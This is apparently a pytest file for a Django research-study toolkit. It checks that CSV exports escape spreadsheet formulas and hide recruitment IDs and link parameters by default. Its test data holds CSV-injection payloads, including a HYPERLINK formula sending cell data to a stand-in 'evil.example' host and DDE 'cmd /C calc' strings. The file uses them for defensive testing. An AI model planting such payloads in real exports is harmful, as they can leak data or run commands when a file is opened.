"""Exports safe to open and to share (issue 15, item 9): no spreadsheet formulas in any CSV the toolkit writes,
and no recruitment ids or join-link parameters in the admin's CSV (or the export commands) unless asked for."""
from __future__ import annotations

import csv
import io
import json
from io import StringIO

import pandas as pd
import pytest
from django.core.management import call_command

from deliberation.models import Opinion
from deliberation.spreadsheet import safe_cell, safe_row
from participants.models import Participant
from participants.services import participant_join

from ..factories import make_group, make_study
from ..legibility.factories import judge
from ..legibility.factories import make_study as make_legibility_study

pytestmark = pytest.mark.django_db(transaction=True)

# What a participant could type (or a link could carry) that a spreadsheet would run.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]
RECRUITMENT = {"PROLIFIC_PID": "pid-5f3a9c", "STUDY_ID": "study-77b1", "SESSION_ID": "session-c0ffee",
               "workerId": "mturk-worker-42", "utm_source": "mail"}


def test_safe_cell_quotes_formula_text_and_leaves_everything_else_alone():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for value in ("Plain text = fine", " =not first", "'already quoted", "", -3, 2.5, True, None, "[1, 2]"):
        assert safe_cell(value) == value
    assert safe_row(["=1", 5, "x"]) == ["'=1", 5, "x"]


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_every_csv_export_quotes_cells_a_spreadsheet_would_run(tmp_path, admin_client):
    group, members = make_group(make_study(max_group_size=6, min_group_size=6), n=6)
    for member, text in zip(members, FORMULAS):  # stored as typed (the exporter must not trust the text)
        Opinion.objects.create(group=group, participant=member, text=text, response_seconds=1.0)
    Participant.objects.filter(pk=members[0].pk).update(recruitment_id="=cmd|' /C calc'!A0")

    # manage.py export (CSV, and Parquet / JSON lines kept exact) and manage.py export_csv
    call_command("export", "--study", group.study.slug, "--format", "csv,parquet,jsonl", "--out",
                 str(tmp_path / "export"), "--include-recruitment-ids", stdout=StringIO(), stderr=StringIO())
    call_command("export_csv", "--study", group.study.slug, "--out", str(tmp_path / "export_csv"),
                 stdout=StringIO(), stderr=StringIO())
    for folder in ("export", "export_csv"):
        opinions = csv_rows((tmp_path / folder / "opinions.csv").read_bytes())
        assert sorted(r["text"] for r in opinions) == sorted("'" + t for t in FORMULAS), folder
    wide = csv_rows((tmp_path / "export" / "participants_wide.csv").read_bytes())
    assert sorted(r["opinion"] for r in wide) == sorted("'" + t for t in FORMULAS)
    participants = csv_rows((tmp_path / "export" / "participants.csv").read_bytes())
    assert "'=cmd|' /C calc'!A0" in {r["recruitment_id"] for r in participants}
    assert sorted(pd.read_parquet(tmp_path / "export" / "opinions.parquet")["text"]) == sorted(FORMULAS)
    jsonl = [json.loads(line) for line in (tmp_path / "export" / "opinions.jsonl").read_text().splitlines()]
    assert sorted(r["text"] for r in jsonl) == sorted(FORMULAS)

    # the admin's CSV action (opinions; participants with their recruitment ids)
    response = admin_client.post("/admin/deliberation/opinion/", {
        "action": "export_csv", "_selected_action": list(Opinion.objects.values_list("pk", flat=True))})
    assert sorted(r["text"] for r in csv_rows(response.content)) == sorted("'" + t for t in FORMULAS)
    response = admin_client.post("/admin/participants/participant/", {
        "action": "export_csv_with_recruitment_ids", "_selected_action": [members[0].pk]})
    assert csv_rows(response.content)[0]["recruitment_id"] == "'=cmd|' /C calc'!A0"


def _join(study, params):
    return participant_join(study=study, params=params)


def test_the_admin_csv_hides_recruitment_ids_and_link_parameters_unless_asked(admin_client, tmp_path):
    study = make_study()
    people = [_join(study, {**RECRUITMENT, "PROLIFIC_PID": f"pid-5f3a9c-{i}"}) for i in range(2)]
    selected = {"_selected_action": [p.pk for p in people]}

    plain = admin_client.post("/admin/participants/participant/", {"action": "export_csv", **selected})
    rows = csv_rows(plain.content)
    assert len(rows) == 2 and {r["id"] for r in rows} == {str(p.pk) for p in people}
    hidden = {"recruitment_id", "recruitment_study_id", "recruitment_session_id", "url_params", "token"}
    assert hidden.isdisjoint(rows[0])
    for value in (*RECRUITMENT.values(), people[0].token):
        assert value.encode() not in plain.content, value

    asked = admin_client.post("/admin/participants/participant/", {"action": "export_csv_with_recruitment_ids",
                                                                    **selected})
    assert "with-recruitment-ids" in asked["Content-Disposition"]
    rows = {r["id"]: r for r in csv_rows(asked.content)}
    first = rows[str(people[0].pk)]
    assert first["recruitment_id"] == "pid-5f3a9c-0" and first["recruitment_study_id"] == "study-77b1"
    assert first["recruitment_session_id"] == "session-c0ffee"
    assert json.loads(first["url_params"])["workerId"] == "mturk-worker-42"
    assert "token" not in first and people[0].token.encode() not in asked.content

    # the same for legibility judges
    legibility = make_legibility_study()
    session = judge(legibility, "judge-pid-91")
    plain = admin_client.post("/admin/legibility/judgesession/", {"action": "export_csv",
                                                                  "_selected_action": [session.pk]})
    assert b"judge-pid-91" not in plain.content and csv_rows(plain.content)[0]["id"] == str(session.pk)
    asked = admin_client.post("/admin/legibility/judgesession/", {"action": "export_csv_with_recruitment_ids",
                                                                  "_selected_action": [session.pk]})
    assert csv_rows(asked.content)[0]["recruitment_id"] == "judge-pid-91"

    # the export commands hide the other link parameters too (another platform's worker id is an id as well)
    call_command("export", "--study", study.slug, "--out", str(tmp_path), stdout=StringIO(), stderr=StringIO())
    exported = b"".join(p.read_bytes() for p in tmp_path.iterdir())
    for value in RECRUITMENT.values():
        assert value.encode() not in exported, value


def test_the_admin_offers_the_recruitment_ids_only_where_people_are_recruited(admin_client):
    group, members = make_group(n=3)
    Opinion.objects.create(group=group, participant=members[0], text="An opinion to list.", response_seconds=1.0)
    page = admin_client.get("/admin/participants/participant/").content.decode()
    assert 'value="export_csv_with_recruitment_ids"' in page and 'value="export_csv"' in page
    page = admin_client.get("/admin/deliberation/opinion/").content.decode()
    assert 'value="export_csv"' in page and "export_csv_with_recruitment_ids" not in page
